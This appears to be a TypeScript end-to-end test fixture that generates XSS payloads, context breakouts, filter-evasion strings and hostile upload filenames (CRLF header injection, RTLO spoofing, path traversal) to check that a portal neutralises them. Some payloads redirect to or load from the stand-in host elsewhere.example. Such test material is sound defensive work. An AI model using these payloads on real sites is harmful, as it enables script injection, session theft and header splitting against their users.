// Markup, texts and names made to run a script in the browser of whoever sees them (T-62).

/**
 * What a hostile file tries, in signs that stand in every attribute and in XML: to call what the watcher put there
 * (tests/e2e/hostile.ts), to say something, to ask something of the portal, and to lead elsewhere.
 */
export const scriptOf = (mark: string): string =>
  `window.koppelWasHere?.('${mark}');alert('${mark}');fetch('/koppel-was-here?${mark}');top.location='//elsewhere.example/${mark}'`;

const quoted = (script: string) => `&lt;script&gt;${script}&lt;/script&gt;`;
const html = (script: string) => encodeURIComponent(`<script>${script}</script>`);

/** Markup that runs by itself where it is taken for HTML; `behind` is what stands in front of it there, where it breaks out of something. */
export const markup: Readonly<Record<string, { behind?: string; of: (script: string) => string }>> = {
  script: { of: (script) => `<script>${script}</script>` },
  image: { of: (script) => `<img src=x onerror="${script}">` },
  'SVG that loads': { of: (script) => `<svg onload="${script}"></svg>` },
  'SVG with a script': { of: (script) => `<svg><script>${script}</script></svg>` },
  'SVG that moves': { of: (script) => `<svg><animate onbegin="${script}" attributeName="x" dur="1s"></animate></svg>` },
  'SVG that is set': { of: (script) => `<svg><set onbegin="${script}" attributeName="x" to="1"></set></svg>` },
  'HTML in SVG': {
    of: (script) => `<svg><foreignObject><iframe srcdoc="${quoted(script)}"></iframe></foreignObject></svg>`,
  },
  'frame with a source': { of: (script) => `<iframe srcdoc="${quoted(script)}"></iframe>` },
  'frame at a script': { of: (script) => `<iframe src="javascript:${script}"></iframe>` },
  object: { of: (script) => `<object data="data:text/html,${html(script)}"></object>` },
  details: { of: (script) => `<details open ontoggle="${script}">x</details>` },
  focus: { of: (script) => `<input autofocus onfocus="${script}">` },
  body: { of: (script) => `<body onpageshow="${script}">` },
  animation: {
    of: (script) => `<style>@keyframes k{}</style><b style="animation:k 1s" onanimationstart="${script}">x</b>`,
  },
  video: { of: (script) => `<video src=x onerror="${script}"></video>` },
  'shadow tree': { of: (script) => `<p><template shadowrootmode=open><img src=x onerror="${script}"></template></p>` },
  'out of a title': { behind: '<title>', of: (script) => `</title><script>${script}</script>` },
  'out of a field': { behind: '<textarea>', of: (script) => `</textarea><img src=x onerror="${script}">` },
  'out of an attribute': { behind: '<p title="', of: (script) => `"><svg onload="${script}">` },
  'out of an attribute in single quotes': { behind: "<p title='", of: (script) => `'><img src=x onerror="${script}">` },
  'out of an attribute into another': { behind: '<input value="', of: (script) => `" autofocus onfocus="${script}` },
  'out of a script': { behind: "<script>var a='", of: (script) => `</script><script>${script}</script>` },
  'out of a text in a script': { behind: "<script>var a='", of: (script) => `';${script}//</script>` },
  'out of a style': { behind: '<style>', of: (script) => `</style><script>${script}</script>` },
  'out of a comment': { behind: '<!--', of: (script) => `--><script>${script}</script>` },
};

/** Texts that run when they are pressed, decoded once too often, or put where no text belongs. */
const otherwise: readonly ((script: string) => string)[] = [
  (script) => `javascript:${script}`,
  (script) => `\u0001java\tscript:${script}`,
  (script) => `data:text/html,<script>${script}</script>`,
  (script) => `<a href="javascript:${script}" autofocus>x</a>`,
  (script) => `<form action="javascript:${script}"><button autofocus>x</button></form>`,
  (script) => `<meta http-equiv="refresh" content="0;url=/koppel-was-here?${script.length}">`,
  () => '<link rel="stylesheet" href="/koppel-was-here?style"><img src="//elsewhere.example/image">',
  () => '<base href="//elsewhere.example/">',
  (script) => quoted(script),
  (script) => html(script),
  (script) => `\\u003cscript\\u003e${script}\\u003c/script\\u003e`,
  (script) => `{{constructor.constructor("${script}")()}}`,
  (script) => `\${${script}}`,
  (script) => `[x](javascript:${encodeURIComponent(script)})`,
  (script) => `<![CDATA[<script>${script}</script>]]>`,
  (script) => `＜script＞${script}＜/script＞`,
  (script) => `<scr<script>ipt>${script}</scr</script>ipt>`,
  (script) => `"));${script}//`,
];

/** Every text that may be put where people write words. */
export const hostileTexts: readonly ((script: string) => string)[] = [
  ...Object.values(markup).map(({ of }) => of),
  ...otherwise,
];

/** Names, none with NUL (an address with one is refused before anybody looks), that a file is given so that it is opened as something else, lands elsewhere, or splits the header that carries it. */
export const hostileNames: readonly string[] = [
  'a"; filename*=UTF-8\'\'page.html; x="',
  'a\r\nContent-Type: text/html\r\nX-Koppel-Was-Here: 1\r\n\r\n<script>alert(1)</script>',
  'a\nX-Koppel-Was-Here: 1.xml',
  'a%0d%0aX-Koppel-Was-Here:%201.html',
  '嘊嘍X-Koppel-Was-Here: 1.html',
  'a\\"; filename="page.html',
  'page.html',
  'page.XHTML',
  'page.svg',
  'page.pdf.html',
  'page.html.',
  'page.html ',
  'page.html;.pdf',
  'page.html\u200b',
  'page.html::$DATA',
  'page.xml%00.html',
  'page.hta',
  'page.url',
  'lmx.\u202elmth',
  '\u2066page\u2069.svg',
  '../../page.html',
  '..\\..\\page.html',
  '.htaccess',
  '<img src=x onerror=window.koppelWasHere?.(1)>.xml',
  '</title><svg onload=window.koppelWasHere?.(1)>.svg',
  'javascript:window.koppelWasHere?.(1)//.html',
  `${'x'.repeat(300)}.html`,
];
